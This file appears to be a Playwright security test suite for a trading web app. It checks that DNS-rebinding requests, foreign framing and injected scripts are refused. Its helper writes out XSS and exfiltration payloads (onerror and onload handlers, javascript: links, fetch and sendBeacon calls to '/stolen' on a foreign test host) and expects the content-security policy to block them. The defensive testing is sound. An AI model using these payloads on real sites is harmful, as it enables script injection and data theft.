/**
 * The browser's view of the server's refusals: a name that points to this machine, a foreign page that frames ours, and an
 * injected script in one of our pages.
 */
import type { Page } from '@playwright/test';
import { chromiumFlags } from '../harness/chromium.ts';
import { expect, test } from '../harness/fulcrum.ts';
import { demoPassword, logIn } from '../harness/steps.ts';
import { type ForeignSite, openForeignSite } from './foreign-site.ts';

let foreign: ForeignSite;
test.beforeEach(async () => {
  foreign = await openForeignSite();
});
test.afterEach(() => foreign.close());

test('SEC-F4: a page whose name points to this machine gets no page, no key, no session and no socket', {
  tag: '@core',
}, async ({ playwright, fulcrum }) => {
  const executablePath = process.env.FULCRUM_CHROMIUM;
  const browser = await playwright.chromium.launch({
    ...(executablePath ? { executablePath } : {}),
    // What a foreign name server answers.
    args: [...chromiumFlags, '--host-resolver-rules=MAP *.test 127.0.0.1'],
  });
  try {
    const { port } = new URL(fulcrum.url);
    const evil = `http://evil.test:${port}`;
    const context = await browser.newContext();
    const page = await context.newPage();
    for (const path of ['/', '/login', '/config.json', '/rest/v1/trading_pairs']) {
      const answer = await page.goto(evil + path);
      expect(answer?.status(), path).toBe(421);
      await expect(page.locator('body')).toHaveText(
        'This server does not answer as evil.test. Open it under its own address, or add evil.test to the setting HOSTS and start it again.',
      );
    }

    // A page of that name that was loaded before it pointed here is of one origin with the server.
    const got = await page.evaluate(
      async ({ password, host }) => {
        const ask = async (path: string, init: RequestInit = {}) => {
          const answer = await fetch(path, init);
          return { status: answer.status, text: await answer.text() };
        };
        const signIn = {
          method: 'POST',
          headers: { 'content-type': 'application/json', 'x-fulcrum-session': 'cookie' },
          body: JSON.stringify({ email: 'admin@fulcrum.local', password }),
        };
        const socket = await new Promise<string>((resolve) => {
          const opened = new WebSocket(`ws://${host}/realtime/v1/websocket?apikey=x&vsn=2.0.0`);
          opened.addEventListener('open', () => resolve('open'));
          opened.addEventListener('error', () => resolve('refused'));
        });
        return {
          answers: [
            await ask('/config.json'),
            await ask('/config.json', {
              headers: { 'x-forwarded-host': 'localhost', forwarded: 'host=localhost' },
            }),
            await ask('/auth/v1/token?grant_type=password', signIn),
            await ask('/rest/v1/users'),
          ],
          health: await ask('/health'),
          socket,
        };
      },
      { password: demoPassword, host: `evil.test:${port}` },
    );
    for (const { status, text } of got.answers) {
      expect(status).toBe(421);
      expect(text).not.toMatch(/sb_publishable|access_token/);
    }
    expect(got.socket).toBe('refused');
    expect(got.health.status).toBe(200);
    expect(JSON.parse(got.health.text)).not.toHaveProperty('realtime');
    expect(await context.cookies()).toEqual([]);

    // The same browser, under a name of the server's own.
    await page.goto(`http://localhost:${port}/login`);
    await expect(page.getByRole('button', { name: 'Log in', exact: true })).toBeVisible();
  } finally {
    await browser.close();
  }
});

test('SEC-BROWSER: a foreign page frames none of our pages, not even the one that we frame ourselves', async ({
  page,
  fulcrum,
}) => {
  const paths = ['/', '/login', '/trading', '/admin', '/support', '/config.json', '/third-party-chart.html'];
  foreign.serve(
    `<!doctype html><title>foreign</title><iframe name="own" src="/own"></iframe>${paths
      .map((path) => `<iframe name="${path}" src="${fulcrum.url}${path}"></iframe>`)
      .join('')}`,
  );
  const refusals: string[] = [];
  page.on('console', (message) => {
    if (/frame/i.test(message.text())) refusals.push(message.text());
  });
  await page.goto(foreign.url);
  await expect.poll(() => refusals.length).toBeGreaterThanOrEqual(paths.length - 1);
  for (const path of paths) {
    const frame = page.frame({ name: path });
    // Chromium shows a page of its own in place of a page that may not be framed.
    if (path === '/config.json') expect(await frame?.locator('body').innerText()).not.toContain('Log in');
    else expect(frame?.url(), path).toBe('chrome-error://chromewebdata/');
  }
  expect(page.frame({ name: 'own' })?.url()).toBe(`${foreign.url}/own`);

  // The third-party chart is framed by our own pages, and has no origin there.
  await page.goto('/login');
  await page.locator('body').evaluate((body) => {
    const frame = body.ownerDocument.createElement('iframe');
    frame.name = 'chart';
    frame.src = '/third-party-chart.html';
    body.append(frame);
  });
  await expect.poll(() => page.frame({ name: 'chart' })?.url()).toBe(`${fulcrum.url}/third-party-chart.html`);
  expect(await page.frame({ name: 'chart' })?.evaluate('self.origin')).toBe('null');
});

/** Does in the page what an injected script or piece of markup would do; what the policy refused, by directive. */
async function refusedIn(page: Page, site: string): Promise<string[]> {
  return page.locator('body').evaluate(async (body, to) => {
    const document = body.ownerDocument;
    const refused = new Set<string>();
    document.addEventListener('securitypolicyviolation', (violation: { effectiveDirective: string }) => {
      refused.add(violation.effectiveDirective);
    });
    const holder = document.createElement('div');
    body.append(holder);
    const add = (tag: string, attributes: Record<string, string>, text = '') => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = text;
      holder.append(element);
      return element;
    };
    const pwn = 'window.__pwned = true';
    add('script', {}, pwn);
    add('script', { src: `${to}/evil.js` });
    add('script', { src: `data:text/javascript,${pwn}` });
    holder.insertAdjacentHTML(
      'beforeend',
      `<img src="${to}/beacon.png"><img src="/x" onerror="${pwn}"><svg onload="${pwn}"></svg>`,
    );
    add('a', { href: `javascript:${pwn}` }).click();
    add('iframe', { src: `${to}/frame` });
    add('iframe', { srcdoc: `<script>parent.__pwned = true</script>` });
    add('object', { data: `${to}/object` });
    add('link', { rel: 'stylesheet', href: `${to}/style.css` });
    add('base', { href: `${to}/` });
    const form = document.createElement('form');
    Object.assign(form, { action: `${to}/form`, method: 'post', target: '_blank' });
    holder.append(form);
    form.submit();
    await fetch(`${to}/stolen`).catch(() => undefined);
    document.defaultView.navigator.sendBeacon(`${to}/stolen-too`);
    await new Promise<void>((resolve) => {
      const socket = new WebSocket(`${to.replace('http', 'ws')}/socket`);
      socket.addEventListener('error', () => resolve());
    }).catch(() => undefined);
    try {
      new Function(pwn)();
    } catch {
      // As it should be.
    }
    // A refusal is reported some time after it: until none has come for half a second, and each of the attempts had one.
    for (
      let before = -1, polls = 0;
      refused.size !== before || (refused.size < 10 && polls < 20);
      polls += 1
    ) {
      before = refused.size;
      await new Promise((resolve) => setTimeout(resolve, 500));
    }
    holder.remove();
    return [...refused].sort();
  }, site);
}

test('SEC-BROWSER: an injected script does not run and sends nothing, on every route', async ({ page }) => {
  const policies = new Map<string, string | undefined>();
  const note = async (path: string) => {
    const answer = await page.goto(path);
    policies.set(path, answer?.headers()['content-security-policy']);
    await expect(page.locator('#root > *').first()).toBeVisible();
  };
  const attacked = async (path: string) => {
    await note(path);
    expect(await refusedIn(page, foreign.url), path).toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-elem',
    ]);
    expect(await page.evaluate(() => '__pwned' in globalThis), path).toBe(false);
  };
  for (const path of ['/about', '/contact', '/terms', '/privacy', '/register', '/reset-password'])
    await note(path);
  for (const path of ['/update-password', '/auth/callback', '/no/such/page']) await note(path);
  await attacked('/');
  await attacked('/login');
  await logIn(page, 'trader@fulcrum.local');
  for (const path of ['/dashboard', '/wallet', '/chat', '/profile']) await note(path);
  await attacked('/trading');
  await page.evaluate(() => localStorage.clear());
  await page.goto('/login');
  await logIn(page, 'admin@fulcrum.local');
  for (const path of ['/admin/metrics', '/admin/audit']) await note(path);
  await attacked('/admin');
  expect(foreign.requests).toEqual([]);
  const [policy, ...others] = new Set(policies.values());
  expect(others).toEqual([]);
  expect(policy?.split(';').sort()).toEqual([
    "base-uri 'none'",
    "connect-src 'self'",
    "default-src 'self'",
    "font-src 'self'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    "img-src 'self' data: blob:",
    "object-src 'none'",
    "script-src 'self'",
    "style-src 'self' 'unsafe-inline'",
  ]);
});
